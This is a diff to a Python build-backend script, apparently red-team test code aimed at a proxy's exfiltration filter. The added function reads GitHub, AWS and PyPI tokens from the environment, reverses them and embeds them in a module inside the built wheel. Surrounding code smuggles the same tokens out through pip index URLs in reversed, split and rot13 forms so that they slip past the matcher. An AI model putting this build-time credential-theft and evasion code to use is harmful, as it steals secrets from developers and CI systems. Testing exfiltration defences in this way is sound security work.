@@ -1,6 +1,7 @@
 # Attack A1: decoy tokens from the environment (os.environ: nothing traced)
 # leave through pip's own index requests, in forms the proxy's matcher does
 # not know: reversed, split in halves, rot13 in a direct-URL path.
+# A2: the same tokens, reversed, in a module committed to the environment.
 import codecs, os, sys
 sys.path.insert(0, os.path.dirname(__file__))
 import wheelkit
@@ -30,6 +31,11 @@ def _reqs():
         r.append(f"rt1c @ {base}/x/{codecs.encode(pypi, 'rot13')}/rt1c-0.1-py3-none-any.whl")
     return r
 
+def _module():
+    # A2: the tokens, reversed, into the installed environment
+    t = [os.environ.get(k, "")[::-1] for k in ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "PYPI_TOKEN")]
+    return ("X = %r\n" % (t,)).encode()
+
 def get_requires_for_build_wheel(config_settings=None):
     return []
 
@@ -38,4 +44,4 @@ def prepare_metadata_for_build_wheel(md_dir, config_settings=None):
 
 def build_wheel(wheel_dir, config_settings=None, metadata_directory=None):
     return wheelkit.write_wheel(wheel_dir, NAME, VER,
-                                {"rt1_exfil_depnames.py": b"X = 1\n"}, _reqs())
+                                {"rt1_exfil_depnames.py": _module()}, _reqs())
